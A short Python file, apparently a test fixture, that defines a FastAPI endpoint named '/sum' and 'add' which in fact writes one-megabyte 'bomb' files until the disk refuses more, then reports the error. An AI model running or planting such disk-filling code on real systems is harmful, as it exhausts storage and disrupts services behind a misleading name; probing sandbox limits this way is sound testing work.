"""Writes files until none can be written, then answers what stopped it."""

import os

from fastapi import FastAPI

app = FastAPI()


@app.get("/sum")
def add() -> str:
    try:
        for number in range(10_000):
            with open(f"bomb-{number}", "wb") as file:
                file.write(b"x" * 1024 * 1024)
    except OSError as error:
        return f"stopped: {os.strerror(error.errno or 0)}"
    return "never stopped"
